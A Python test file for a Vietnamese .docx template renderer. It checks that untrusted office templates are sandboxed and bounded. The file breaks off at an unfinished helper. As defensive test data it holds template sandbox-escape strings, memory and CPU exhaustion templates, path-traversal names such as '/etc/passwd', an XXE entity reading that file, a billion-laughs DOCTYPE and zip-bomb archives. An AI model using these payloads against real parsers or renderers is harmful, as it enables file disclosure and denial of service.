"""An office's template is a file from outside: it reads what it is given and changes none of it."""

import os
from pathlib import Path

import pytest

import vanban
from vanban import Renderer, TemplateError

from helpers import EXAMPLES, open_docx, text_lines
from helpers import copy_package_template, edit_template


@pytest.fixture(scope="module")
def plan():
    return vanban.load(EXAMPLES / "ke_hoach_114.yaml")


def office_renderer(folder: Path, tag: str) -> Renderer:
    """A Renderer whose frame is the package's, with ``tag`` written after the agency mark."""
    path = copy_package_template(folder)
    edit_template(path, "{{ agency_mark }}", "{{ agency_mark }}" + tag)
    return Renderer([folder])


def run_tag(tag: str, document, **limits) -> str:
    """What ``tag`` writes when run as the renderer runs a template (its environment, the values of
    ``document``), without a .docx around it; or the TemplateError the renderer would raise."""
    from vanban._render import _new_environment, template_error
    from vanban._sandbox import TemplateLimits

    values = Renderer()._values(document)
    try:
        return _new_environment(TemplateLimits(**limits)).from_string(tag).render(values)
    except Exception as error:
        raise template_error("doan/van-ban.docx", error) from error


def refusal(folder: Path, tag: str, document, *, both_paths: bool = False) -> str:
    """The message of the TemplateError ``tag`` ends in (the same on the reference path)."""
    renderer = office_renderer(folder, tag)
    messages = []
    for render in (renderer.render_bytes, renderer.reference_render_bytes)[:2 if both_paths else 1]:
        with pytest.raises(TemplateError) as error:
            render(document)
        messages.append(str(error.value))
    assert len({message.split(" (ở dòng")[0] for message in messages}) == 1  # only the warm path quotes the line
    return messages[0]


# --- a template changes nothing it is given ---------------------------------------------------

CHANGING = [
    # the methods that change a list, a dict or a set
    "{{ document.recipients.clear() }}",
    "{{ document.recipients.append(document.recipients[0]) }}",
    "{{ document.recipients.pop() }}",
    "{{ document.recipients.sort(attribute='name') }}",
    "{{ document.recipients.reverse() }}",
    "{{ document.issuer.name.insert(0, 'X') }}",
    "{{ document.issuer.name.extend(['X']) }}",
    "{{ document.issuer.name.remove(document.issuer.name[0]) }}",
    "{{ body[0].update({'style': 'x'}) }}",
    "{{ body[0].setdefault('x', 1) }}",
    "{{ (document.recipients|attr('clear'))() }}",
    # pydantic's own API, which reaches the class, its fields and its configuration
    "{{ document.model_copy(update={'number': 1}) }}",
    "{{ document.model_dump() }}",
    "{{ document.model_fields['number'] }}",
    "{{ document.model_config.update({'frozen': True}) }}",
    "{{ document.model_fields_set.clear() }}",
    "{{ document.model_post_init(None) }}",
    "{{ document.model_rebuild(force=True) }}",
    "{{ document.model_validate({}) }}",
    "{{ document.signer.model_copy() }}",
    "{{ document.copy() }}",
    # the model's own methods
    "{{ document.sections() }}",
    "{{ document.json_schema() }}",
    # Python's way in
    "{{ document.__setattr__('number', 1) }}",
    "{{ document|attr('__setattr__') }}",
    "{{ document.__dict__ }}",
    # what is not a value: vanban's renderer internals
    "{{ body[0].runs.xml }}",
]


@pytest.mark.parametrize("tag", CHANGING)
def test_a_template_cannot_change_or_reach_into_the_document_it_is_given(plan, tag):
    document = plan.model_copy(deep=True)
    before = document.model_dump()
    with pytest.raises(TemplateError) as error:
        run_tag(tag, document)
    message = str(error.value)
    assert message.startswith("Mẫu 'doan/van-ban.docx' bị lỗi: ")
    assert "unsafe" not in message and ("không được" in message or "không phải một trường" in message)
    assert document.model_dump() == before


def test_the_refusal_says_what_was_refused_and_why(tmp_path, plan):
    message = refusal(tmp_path / "a", "{{ document.recipients.clear() }}", plan, both_paths=True)
    assert "'clear'" in message and "danh sách" in message and "không được thay đổi" in message
    assert "Hãy bỏ '.clear(...)' khỏi mẫu" in message
    message = refusal(tmp_path / "b", "{{ document.model_copy() }}", plan, both_paths=True)
    assert "'model_copy'" in message and "không phải một trường" in message


def test_recipients_a_template_tried_to_empty_are_all_in_the_next_document(tmp_path, plan):
    document = plan.model_copy(deep=True)
    with pytest.raises(TemplateError):
        office_renderer(tmp_path, "{{ document.recipients.clear() }}").render_bytes(document)
    lines = text_lines(open_docx(Renderer().render_bytes(document)))
    assert "- Nguyễn Văn Tám, TVU, Bí thư Đảng ủy (để b/c);" in lines and "- Lưu VP." in lines


def test_a_template_cannot_reach_the_file_system_through_a_path_it_is_given(tmp_path):
    from jinja2 import StrictUndefined

    from vanban._render import _new_environment

    target = tmp_path / "written.txt"
    environment = _new_environment()
    assert environment.undefined is StrictUndefined
    for source in ["{{ values.path.write_text('x') }}", "{{ values.path.read_text() }}",
                   "{{ values.path.parent.iterdir()|list }}", "{{ values.path.unlink() }}"]:
        with pytest.raises(Exception) as error:
            environment.from_string(source).render(values={"path": target})
        assert "mẫu không được dùng" in str(error.value)
    assert not target.exists()


READING = {
    "{{ document.number }}/{{ document.signer.name }}": "114/Nguyễn Trọng Nhân",
    "{{ document.type_name }} {{ document.profile_name }}": "Kế hoạch doan",
    "{{ document.recipients|length }} {{ document.recipients[0].name[:6] }}": "8 Nguyễn",
    "{{ document.issuer.name|join(' / ')|upper }}": "BCH ĐOÀN KHỐI CÁC CƠ QUAN / VÀ DOANH NGHIỆP",
    "{{ 'a-b'.split('-')|reverse|join }} {{ {'k': 1}.get('k') }} {{ [3, 1].index(1) }}": "ba 1 1",
    "{% set ns = namespace(n=0) %}{% for r in document.recipients %}{% set ns.n = ns.n + 1 %}{% endfor %}"
    "{{ ns.n }}{% for m in marks %}{{ m.text }}{% endfor %}": "8",
    "{% for r in document.recipients %}{{ loop.index }}{% if not loop.last %},{% endif %}{% endfor %}": "1,2,3,4,5,6,7,8",
    "{{ document.date.year if document.date.year else '' }}": "2021",
}


@pytest.mark.parametrize("tag, shown", READING.items())
def test_a_template_still_reads_every_value_it_is_given(plan, tag, shown):
    assert run_tag(tag, plan) == shown


# --- a template runs in bounded time and memory ---------------------------------------------

def limited(folder: Path, tag: str, **limits) -> Renderer:
    from vanban._sandbox import TemplateLimits

    office_renderer(folder, tag)
    return Renderer([folder], limits=TemplateLimits(**limits))


NESTED_LOOPS = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
EXPLODING_LIST = "{% set a0 = ['xxxxxxxxxx'] %}" + "".join(
    f"{{% set a{i} = [a{i - 1}, a{i - 1}] %}}" for i in range(1, 40))

BOUNDED = {
    # steps: loops, calls, recursion that fans out
    NESTED_LOOPS: "quá 50.000 bước",
    "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(40) }}": "quá 50.000 bước",
    "{% for x in range(10) recursive %}{% if loop.depth != 3 %}{{ loop(range(100000)) }}{% endif %}{% endfor %}":
        "quá 50.000 bước",
    # range, numbers
    "{% for i in range(10**9) %}{% endfor %}": "range() của mẫu có 1.000.000.000 phần tử, quá giới hạn 100.000",
    "{{ 10 ** 100000 }}": "phép '**' cho một số quá 1.000 chữ số",
    "{{ (2 ** 3000) * (2 ** 3000) }}": "phép '*' cho một số quá 1.000 chữ số",
    # repetition and padding, checked before anything is allocated
    "{{ 'x' * 10**9 }}": "phép '*' sẽ tạo thêm khoảng 1.000.000.000 ký tự",
    "{{ [0] * 10**9 }}": "phép '*' sẽ tạo thêm khoảng 1.000.000.000 ký tự",
    "{{ 'x'.center(10**9) }}": "center() sẽ tạo thêm khoảng 1.000.000.000 ký tự",
    "{{ 'x'|center(10**9) }}": "bộ lọc 'center' sẽ tạo thêm khoảng 1.000.000.000 ký tự",
    "{{ 'x'|indent(10**9) }}": "bộ lọc 'indent' sẽ tạo thêm",
    "{{ '%*s'|format(10**9, 'x') }}": "bộ lọc 'format' sẽ tạo thêm",
    "{{ '%1000000000d' % 1 }}": "phép '%' sẽ tạo thêm",
    "{{ '{:>1000000000}'.format(1) }}": "str.format() sẽ tạo thêm",
    "{{ '{:{}}'.format(1, 10**9) }}": "str.format() sẽ tạo thêm",
    "{{ 'ab'.replace('', 'x'.ljust(40000000)) }}": "replace() sẽ tạo thêm",
    "{{ 'x'.ljust(40000000).expandtabs() ~ ('\t'.ljust(10) * 10).expandtabs(10**8) }}": "expandtabs() sẽ tạo thêm",
    "{{ (1).to_bytes(10**9, 'big') }}": "to_bytes() sẽ tạo thêm",
    "{{ lipsum(10**6) }}": "lipsum() sẽ tạo thêm",
    "{{ range(100)|join('x'.ljust(10**6)) }}": "bộ lọc 'join' sẽ tạo thêm",
    # growth by doubling, and a structure whose text doubles at each level
    "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}":
        "phép nối chuỗi '~' sẽ tạo thêm",
    EXPLODING_LIST + "{{ a39 }}": "nội dung mẫu viết ra: mẫu đã tạo ra ",
    EXPLODING_LIST + "{{ a39|string }}": "bộ lọc 'string' sẽ tạo thêm",
    EXPLODING_LIST + "{{ a39 ~ '' }}": "phép nối chuỗi '~' sẽ tạo thêm",
    EXPLODING_LIST + "{{ '%s' % (a39,) }}": "phép '%' sẽ tạo thêm",
    EXPLODING_LIST + "{{ '{}'.format(a39) }}": "str.format() sẽ tạo thêm",
    # what the template writes: values, and its own text repeated
    "{% for i in range(1000) %}{{ 'x'.ljust(10**6) }}{% endfor %}": "quá giới hạn 50.000.000 ký tự và phần tử",
    "{% for i in range(100000) %}" + "x" * 2000 + "{% endfor %}": "nội dung mẫu viết ra: mẫu đã tạo ra ",
    "{% set s %}{% for i in range(1000) %}{{ 'y'.ljust(10**6) }}{% endfor %}{% endset %}{{ s|length }}":
        "quá giới hạn 50.000.000 ký tự và phần tử",
}


@pytest.mark.parametrize("tag, limit", BOUNDED.items(), ids=range(len(BOUNDED)))
def test_a_template_past_a_limit_is_stopped_with_the_limit_named(plan, tag, limit):
    with pytest.raises(TemplateError) as error:
        run_tag(tag, plan, steps=50_000)
    message = str(error.value)
    assert message.startswith("Mẫu 'doan/van-ban.docx' bị lỗi: ") and limit in message, message


def test_a_limit_is_named_when_rendering_a_document_on_both_paths(tmp_path, plan):
    renderer = limited(tmp_path, "{{ 'x' * 10**9 }}")
    for render in (renderer.render_bytes, renderer.reference_render_bytes):
        with pytest.raises(TemplateError) as error:
            render(plan)
        assert "phép '*' sẽ tạo thêm khoảng 1.000.000.000 ký tự hoặc phần tử, quá giới hạn 50.000.000" in str(error.value)


def test_the_default_limits_stop_nested_loops(tmp_path, plan):
    with pytest.raises(TemplateError) as error:
        office_renderer(tmp_path, NESTED_LOOPS).render_bytes(plan)
    assert "quá 5.000.000 bước" in str(error.value)


def test_a_template_slower_than_its_time_limit_is_stopped(tmp_path, plan):
    renderer = limited(tmp_path, NESTED_LOOPS, seconds=0.3, steps=10**12)
    with pytest.raises(TemplateError) as error:
        renderer.render_bytes(plan)
    assert "đã chạy quá 0,3 giây (giới hạn thời gian chạy một mẫu cho mỗi văn bản)" in str(error.value)


def test_the_limits_are_per_document(tmp_path, plan):
    # 60% of the steps: once is fine, and so is the next document
    renderer = limited(tmp_path, "{% for i in range(60000) %}{% endfor %}", steps=100_000)
    for _ in range(2):
        renderer.render_bytes(plan)
        renderer.reference_render_bytes(plan)


def test_a_template_within_its_limits_gives_the_same_document_as_before(tmp_path, plan):
    tag = "{% for i in range(3) %}{{ i * 2 }}{{ 'ab' ~ i }}{% endfor %}{{ '%05.1f'|format(2.5) }}{{ 2 ** 10 }}"
    renderer = limited(tmp_path, tag, steps=1_000)
    data = renderer.render_bytes(plan)
    assert "***0ab02ab14ab2002.51024" in text_lines(open_docx(data))
    assert data == renderer.reference_render_bytes(plan)


# --- whatever goes wrong in a template is said in Vietnamese, naming the template -------------

def render_command(folder: Path, out: Path):
    from click.testing import CliRunner

    from vanban.cli import main

    return CliRunner().invoke(main, ["render", str(EXAMPLES / "ke_hoach_114.yaml"), "-o", str(out),
                                     "--templates", str(folder)])


FAILING = {
    "{{ 1 / 0 }}": "mẫu chia cho 0 ở dòng 4 của mẫu",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}": "mẫu gọi lồng nhau quá sâu",
    "{{ 'x'|center('a') }}": "mẫu dùng một giá trị sai kiểu (ví dụ một bộ lọc hay hàm nhận tham số không đúng)",
    "{{ '%d'|format('x') }}": "mẫu dùng một giá trị sai kiểu",
    "{{ 2.0 ** 10000 }}": "một phép tính của mẫu cho số quá lớn",
    "{{ document.recipients[99].name }}": "mẫu dùng một giá trị vanban không cung cấp ở dòng 4",
    "{% set document.number = 1 %}": "chỉ gán được cho namespace() của chính nó",
    "{% include 'khac.docx' %}": "mẫu dùng thẻ {% include %}, nhưng vanban không nạp mẫu nào khác",
    "{% import 'khac.docx' as khac %}": "mẫu dùng thẻ {% import %}",
    "{% from 'khac.docx' import x %}": "mẫu dùng thẻ {% from ... import %}",
    "{% extends 'khac.docx' %}": "mẫu dùng thẻ {% extends %}",
}


@pytest.mark.parametrize("tag, said", FAILING.items(), ids=range(len(FAILING)))
def test_a_failing_template_is_named_and_explained_in_vietnamese(plan, tag, said):
    with pytest.raises(TemplateError) as error:
        run_tag(tag, plan)
    assert str(error.value).startswith("Mẫu 'doan/van-ban.docx' bị lỗi: ") and said.replace(" 4", " 1") in str(error.value)


@pytest.mark.parametrize("tag", ["{{ 1 / 0 }}", "{% include 'khac.docx' %}", "{% set document.number = 1 %}"])
def test_a_failing_template_is_named_the_same_on_both_render_paths(tmp_path, plan, tag):
    said = FAILING[tag]
    renderer = office_renderer(tmp_path / "mau", tag)
    messages = []
    for render in (renderer.render_bytes, renderer.reference_render_bytes):
        with pytest.raises(TemplateError) as error:
            render(plan)
        messages.append(str(error.value))
    assert all(m.startswith("Mẫu 'doan/van-ban.docx' bị lỗi: ") and said in m for m in messages), messages


def test_a_template_writing_broken_xml_is_named(tmp_path, plan):
    path = copy_package_template(tmp_path)
    edit_template(path, "<w:p><w:pPr/></w:p>", "<w:p><w:r><w:t>{{ number_line }}{{ '%c'|format(60)|safe }}</w:t></w:r></w:p>",
                  part="word/header1.xml")
    renderer = Renderer([tmp_path])
    for render in (renderer.render_bytes, renderer.reference_render_bytes):
        with pytest.raises(TemplateError) as error:
            render(plan)
        assert str(error.value).startswith("Mẫu 'doan/van-ban.docx' bị lỗi: mẫu tạo ra XML không hợp lệ")


def test_the_line_of_a_failing_template_is_quoted(tmp_path, plan):
    with pytest.raises(TemplateError) as error:
        office_renderer(tmp_path, "{{ 1 / 0 }}").render_bytes(plan)
    assert "mẫu chia cho 0 ở dòng 4 của mẫu «{{ agency_mark }}{{ 1 / 0 }}». Chi tiết: " in str(error.value)


def test_the_render_command_names_a_failing_template_without_a_traceback(tmp_path):
    office_renderer(tmp_path / "mau", "{{ 1 / 0 }}")
    result = render_command(tmp_path / "mau", tmp_path / "kh.docx")
    assert result.exit_code == 1 and result.exception is None or isinstance(result.exception, SystemExit)
    assert result.output.startswith("Lỗi: Mẫu 'doan/van-ban.docx' bị lỗi: mẫu chia cho 0")
    assert "Traceback" not in result.output and not (tmp_path / "kh.docx").exists()


def broken_template(folder: Path, data: bytes) -> Path:
    (folder / "doan").mkdir(parents=True)
    (folder / "doan" / "van-ban.docx").write_bytes(data)
    return folder


def zip_without_document() -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    return out.getvalue()


@pytest.mark.parametrize("data, said", [
    ("Kính gửi: ...".encode(), "không phải tệp .docx hợp lệ (tệp Word 2007 trở lên)."),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "không phải tệp .docx hợp lệ: đây là một tệp Office cũ"),
    (zip_without_document(), "không phải tệp .docx hợp lệ: đây là một tệp nén ZIP không chứa văn bản Word."),
], ids=["text", "old office file", "zip without a document"])
def test_a_template_that_is_not_a_docx_is_named_with_what_it_is(tmp_path, data, said):
    folder = broken_template(tmp_path / "mau", data)
    result = render_command(folder, tmp_path / "kh.docx")
    assert result.exit_code == 1, result.output
    assert result.output.startswith(f"Lỗi: Mẫu 'doan/van-ban.docx' bị lỗi: tệp {folder}/doan/van-ban.docx: ")
    assert said in result.output and "Traceback" not in result.output


def test_a_frame_without_the_body_loop_is_named_when_a_body_template_is_spliced_in():
    from vanban._render import splice_body

    frame = Renderer().template_bytes("doan/van-ban.docx")
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(frame)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "word/document.xml":
                content = content.replace(b"{%p for block in body %}", b"")
            target.writestr(item, content)
    with pytest.raises(TemplateError) as error:
        splice_body(out.getvalue(), frame, "doan/van-ban.docx", "doan/thong-bao.docx")
    assert str(error.value).startswith("Mẫu 'doan/van-ban.docx' bị lỗi: mẫu khung không có vòng lặp thân văn bản")


@pytest.mark.parametrize("runs, split", [
    ('<w:r><w:t>{{ agency_</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>mark }}</w:t></w:r>', True),
    ('<w:r><w:t></w:t></w:r><w:r><w:t>{{ agency_mark }}</w:t></w:r><w:r><w:t> </w:t></w:r>', False),
    ('<w:r><w:t>x</w:t></w:r><w:r><w:t>{{ agency_mark }}</w:t></w:r>', False),
], ids=["split over two runs", "after an empty run", "a run of its own"])
def test_template_check_warns_of_a_tag_word_split_over_runs_and_only_of_that(tmp_path, runs, split):
    path = copy_package_template(tmp_path)
    edit_template(path, "<w:r><w:t>{{ agency_mark }}</w:t></w:r>", runs)
    warned = "thẻ {{ agency_mark }} bị Word tách thành nhiều đoạn định dạng (run)" in template_check(path).output
    assert warned == split


def test_an_unknown_name_is_placed_where_it_is_read_not_where_a_longer_name_holds_it(tmp_path):
    from vanban._template_check import check_template

    path = copy_package_template(tmp_path)
    edit_template(path, "{{ agency_mark }}", "{{ agency_mark }}{{ lines }}")  # paragraph 1 reads parent_lines
    findings = [str(f) for f in check_template(path, vanban.document_types()["ke-hoach"])]
    assert any(f.startswith("[lỗi] đoạn 7 «{{ agency_mark }}{{ lines }}»: 'lines' không phải giá trị") for f in findings)


def test_template_check_reports_a_tag_that_loads_another_template(tmp_path):
    from vanban._template_check import check_template

    path = copy_package_template(tmp_path)
    edit_template(path, "{{ agency_mark }}", "{{ agency_mark }}{% include 'khac.docx' %}")
    findings = [str(f) for f in check_template(path, vanban.document_types()["ke-hoach"])]
    assert any(f.startswith("[lỗi] đoạn 7 «{{ agency_mark }}{% include 'khac.docx' %}»: mẫu dùng thẻ {% include %}")
               for f in findings), findings


def test_template_check_computes_nothing_the_template_would_compute(tmp_path):
    # Jinja folds constant expressions while it walks a template to list the names it reads:
    # in the renderer's bounded environment a huge power or repetition is left for the render
    # (which refuses it), instead of being computed, or failing, while the template is checked
    import tracemalloc

    from vanban._template_check import check_template

    path = copy_package_template(tmp_path)
    edit_template(path, "{{ agency_mark }}", "{{ agency_mark }}{{ (10**5000)|string }}{{ 'x' * 10**8 }}")
    check_template(path, vanban.document_types()["ke-hoach"])  # what is loaded once is not counted
    tracemalloc.start()
    try:
        findings = check_template(path, vanban.document_types()["ke-hoach"])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert findings == []
    assert peak < 50 * 1024 * 1024, peak


# --- an office's template folder: nothing outside it is read, nothing in it is unbounded --------

def package_frame() -> bytes:
    return Renderer().template_bytes("doan/van-ban.docx")


@pytest.mark.parametrize("name", ["../van-ban.docx", "doan/../../van-ban.docx", "/etc/passwd", "doan//van-ban.docx",
                                  "C:/mau/van-ban.docx", "..\\van-ban.docx", ""])
def test_a_template_name_that_leads_outside_the_folder_is_refused(tmp_path, name):
    (tmp_path / "van-ban.docx").write_bytes(package_frame())
    folder = tmp_path / "mau"
    folder.mkdir()
    with pytest.raises(TemplateError) as error:
        Renderer([folder]).template_bytes(name)
    assert "tên mẫu phải là một đường dẫn bên trong thư mục mẫu" in str(error.value)


def test_a_link_pointing_outside_the_folder_is_refused_and_one_inside_is_followed(tmp_path, plan):
    (tmp_path / "ngoai.docx").write_bytes(package_frame())
    folder = tmp_path / "mau"
    (folder / "doan").mkdir(parents=True)
    link = folder / "doan" / "van-ban.docx"
    link.symlink_to(tmp_path / "ngoai.docx")
    result = render_command(folder, tmp_path / "kh.docx")
    assert result.exit_code == 1 and not (tmp_path / "kh.docx").exists()
    assert f"{link} là một liên kết trỏ ra ngoài thư mục mẫu {folder}" in result.output
    link.unlink()
    (folder / "chung.docx").write_bytes(package_frame())
    link.symlink_to(folder / "chung.docx")
    assert render_command(folder, tmp_path / "kh.docx").exit_code == 0


def test_a_broken_link_is_named(tmp_path):
    (tmp_path / "mau" / "doan").mkdir(parents=True)
    (tmp_path / "mau" / "doan" / "van-ban.docx").symlink_to(tmp_path / "khong-co.docx")
    result = render_command(tmp_path / "mau", tmp_path / "kh.docx")
    assert result.exit_code == 1 and "là một liên kết hỏng" in result.output


@pytest.mark.parametrize("make, kind", [
    (lambda path: os.mkfifo(path), "một đường ống (FIFO)"),
    (lambda path: path.mkdir(), "một thư mục"),
], ids=["fifo", "folder"])
def test_a_template_that_is_not_a_regular_file_is_refused_before_it_is_opened(tmp_path, make, kind):
    import signal

    (tmp_path / "mau" / "doan").mkdir(parents=True)
    make(tmp_path / "mau" / "doan" / "van-ban.docx")
    def waited_for_ever(signum, frame):
        raise TimeoutError("the template was opened and waited for a writer")

    previous = signal.signal(signal.SIGALRM, waited_for_ever)
    signal.alarm(20)  # a FIFO opened for reading waits for a writer for ever
    try:
        result = render_command(tmp_path / "mau", tmp_path / "kh.docx")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert result.exit_code == 1
    assert f"{tmp_path}/mau/doan/van-ban.docx là {kind}, không phải một tệp mẫu .docx." in result.output


def test_a_template_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path):
    folder = broken_template(tmp_path / "mau", b"")
    with open(folder / "doan" / "van-ban.docx", "wb") as file:
        file.truncate(21 * 1024 * 1024)  # sparse: nothing is written
    result = render_command(folder, tmp_path / "kh.docx")
    assert result.exit_code == 1 and "có 21,0 MiB, lớn hơn giới hạn 20,0 MiB của một tệp mẫu" in result.output


def frame_with(extra: dict) -> bytes:
    """The package frame with more parts: name -> bytes (compressed with deflate)."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package_frame())) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def marked_encrypted(data: bytes, name: str) -> bytes:
    """``data`` with the zip's "encrypted" flag set on the part ``name`` (zipfile never writes it)."""
    import struct

    data = bytearray(data)
    position = data.index(b"PK\x01\x02")  # the central directory's records
    while data[position + 46:position + 46 + struct.unpack_from("<H", data, position + 28)[0]] != name.encode():
        position = data.index(b"PK\x01\x02", position + 46)
    data[position + 8] |= 0x1
    data[struct.unpack_from("<L", data, position + 42)[0] + 6] |= 0x1  # and its local header
    return bytes(data)


MIB = 1024 * 1024
SOMEWHAT_COMPRESSIBLE = os.urandom(400 * 1024)  # keeps a big part under the ratio limit

BOUNDS = [
    ({"word/media/bom.bin": bytes(2 * MIB)}, "giải nén ra 2,0 MiB từ", "gấp hơn 100 lần"),
    ({"word/media/lon.bin": SOMEWHAT_COMPRESSIBLE + bytes(32 * MIB)}, "giải nén ra 32,4 MiB",
     "lớn hơn giới hạn 32,0 MiB của một phần mẫu"),
    ({f"word/media/{i}.bin": SOMEWHAT_COMPRESSIBLE + bytes(22 * MIB) for i in range(3)},
     "giải nén ra 67,", "lớn hơn giới hạn 64,0 MiB của một mẫu"),
    ({f"word/media/{i}.bin": b"" for i in range(10_000)}, "tệp nén có 10.0", "mục, quá giới hạn 10.000 mục"),
]


@pytest.mark.parametrize("extra, said, limit", BOUNDS, ids=["ratio", "part", "total", "parts"])
def test_a_template_zip_past_a_size_limit_is_refused_naming_the_limit(tmp_path, extra, said, limit):
    folder = broken_template(tmp_path / "mau", frame_with(extra))
    result = render_command(folder, tmp_path / "kh.docx")
    assert result.exit_code == 1 and said in result.output and limit in result.output, result.output


def test_an_encrypted_part_is_refused(tmp_path):
    folder = broken_template(tmp_path / "mau", marked_encrypted(frame_with({"word/media/a.bin": b"x"}), "word/media/a.bin"))
    result = render_command(folder, tmp_path / "kh.docx")
    assert result.exit_code == 1 and "phần word/media/a.bin của tệp" in result.output and "bị mã hóa" in result.output


# --- vanban template check: any file, any XML, a Vietnamese message ----------------------------

def template_check(path: Path, *, seconds: int = 20):
    """``vanban template check PATH --type ke-hoach``, stopped if it waits for ever."""
    import signal

    from click.testing import CliRunner

    from vanban.cli import main

    def waited_for_ever(signum, frame):
        raise TimeoutError("template check did not finish")

    previous = signal.signal(signal.SIGALRM, waited_for_ever)
    signal.alarm(seconds)
    try:
        return CliRunner().invoke(main, ["template", "check", str(path), "--type", "ke-hoach"])
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


LAUGHS = ('<!DOCTYPE w:document [<!ENTITY a "hahahahaha">'
          + "".join(f'<!ENTITY {b} "{("&" + a + ";") * 10}">' for a, b in zip("abcdefgh", "bcdefghi")) + "]>")
PASSWD = '<!DOCTYPE w:document [<!ENTITY p SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("old, new, part, said", [
    ("</w:body>", "", "word/document.xml", "tệp {path}: phần word/document.xml bị hỏng (XML không hợp lệ ở dòng 2)"),
    ("<w:document", LAUGHS + "<w:document", "word/document.xml", "tệp {path}: phần word/document.xml có khai báo DOCTYPE"),
    ("{{ agency_mark }}", "{{ agency_mark }}&i;", "word/document.xml", "phần word/document.xml bị hỏng (XML không hợp lệ ở dòng 2)"),
    ("<w:document", PASSWD + "<w:document", "word/document.xml", "có khai báo DOCTYPE"),
    ("<w:styles", LAUGHS.replace("w:document", "w:styles") + "<w:styles", "word/styles.xml",
     "tệp {path}: phần word/styles.xml có khai báo DOCTYPE"),
    ("<Types", '<!DOCTYPE Types [<!ENTITY x "y">]><Types', "[Content_Types].xml", "có khai báo DOCTYPE"),
], ids=["malformed", "billion laughs", "undeclared entity", "external entity", "in another part", "content types"])
def test_template_check_names_a_part_that_is_not_sound_xml(tmp_path, old, new, part, said):
    path = copy_package_template(tmp_path)
    edit_template(path, old, new, part=part)
    result = template_check(path)
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    assert result.output.startswith("Lỗi: Mẫu 'van-ban.docx' bị lỗi: ")
    assert said.format(path=path) in result.output and "root:" not in result.output


def test_a_template_with_a_doctype_is_refused_when_rendering_too(tmp_path, plan):
    path = copy_package_template(tmp_path)
    edit_template(path, "<w:document", PASSWD + "<w:document")
    edit_template(path, "{{ agency_mark }}", "{{ agency_mark }}&p;")
    with pytest.raises(TemplateError) as error:
        Renderer([tmp_path]).render_bytes(plan)
    assert "có khai báo DOCTYPE" in str(error.value) and "root:" not in str(error.value)


def test_template_check_reads_utf16_parts_as_office_may_write_them(tmp_path, plan):
    import io
    import zipfile

    path = copy_package_template(tmp_path)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename in ("word/document.xml", "word/styles.xml"):
                content = content.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
            target.writestr(item, content)
    path.write_bytes(out.getvalue())
    result = template_check(path)
    assert result.exit_code == 0 and "0 lỗi, 0 cảnh báo" in result.output, result.output
    assert Renderer([tmp_path]).render_bytes(plan) == Renderer().render_bytes(plan)


@pytest.mark.parametrize("make, kind", [
    (lambda path: os.mkfifo(path), "một đường ống (FIFO)"),
    (None, "một thiết bị"),
], ids=["fifo", "device"])
def test_template_check_refuses_what_is_not_a_regular_file_before_opening_it(tmp_path, make, kind):
    path = tmp_path / "mau.docx"
    if make is None:
        path = Path("/dev/zero")
    else:
        make(path)
    result = template_check(path)
    assert result.exit_code == 1 and f"{path} là {kind}, không phải một tệp mẫu .docx." in result.output


def test_template_check_names_a_file_that_is_not_a_docx(tmp_path):
    path = tmp_path / "mau.docx"
    path.write_text("Kính gửi", encoding="utf-8")
    result = template_check(path)
    assert result.exit_code == 1 and "mau.docx: không phải tệp .docx hợp lệ (tệp Word 2007 trở lên)." in result.output


def test_a_template_whose_main_part_is_not_the_one_checked_is_refused(tmp_path):
    # a decoy word/document.xml, and the document Word would open elsewhere
    path = copy_package_template(tmp_path)
    edit_template(path, 'Target="word/document.xml"', 'Target="word/khac.xml"', part="_rels/.rels")
    result = template_check(path)
    assert result.exit_code == 1
    assert f"phần chính của tệp {path} là word/khac.xml, không phải word/document.xml" in result.output


# --- external and active content: refused when rendering, reported by template check -----------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
CT = "application/vnd.openxmlformats-officedocument"


def add_parts(path: Path, parts: dict) -> None:
    """Add parts (zip name -> bytes) to the .docx at ``path``."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        for name, data in parts.items():
            target.writestr(name, data)
    path.write_bytes(out.getvalue())


def relation(ident: str, kind: str, target: str, external: bool = False, base: str = REL) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{ident}" Type="{base}/{kind}" Target="{target}"{mode}/>'


def add_relations(path: Path, *relations: str, part: str = "word/_rels/document.xml.rels") -> None:
    edit_template(path, "</Relationships>", "".join(relations) + "</Relationships>", part=part)


def add_content_type(path: Path, entry: str) -> None:
    edit_template(path, "</Types>", entry + "</Types>", part="[Content_Types].xml")


def after_agency_mark(path: Path, xml: str, part: str = "word/document.xml") -> None:
    """Put ``xml`` (runs) in the agency mark's paragraph."""
